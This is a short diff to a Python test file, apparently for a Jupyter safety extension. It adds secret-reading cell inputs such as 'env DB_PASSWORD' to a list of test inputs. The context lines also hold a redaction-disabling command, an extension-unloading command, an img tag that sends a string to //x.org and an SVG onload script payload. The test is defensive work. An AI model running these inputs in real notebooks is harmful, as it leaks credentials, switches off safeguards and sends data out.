@@ -81,6 +81,8 @@ def test_no_ordinary_cell_is_asked_about_needlessly(shared_data: Path) -> None:
         "env",
         "config DevstralConfig.redact = False",
         "unload_ext jupyter_devstral",
+        "%time env DB_PASSWORD",
+        "get_ipython().run_cell('env DB_PASSWORD')",
         "HTML(f'<img src=\"{address}\">')",
         "html = '<img src=\"//x.org/?' + s + '\">'\nHTML(html)",
         "HTML('<svg onload=alert(1)>')",
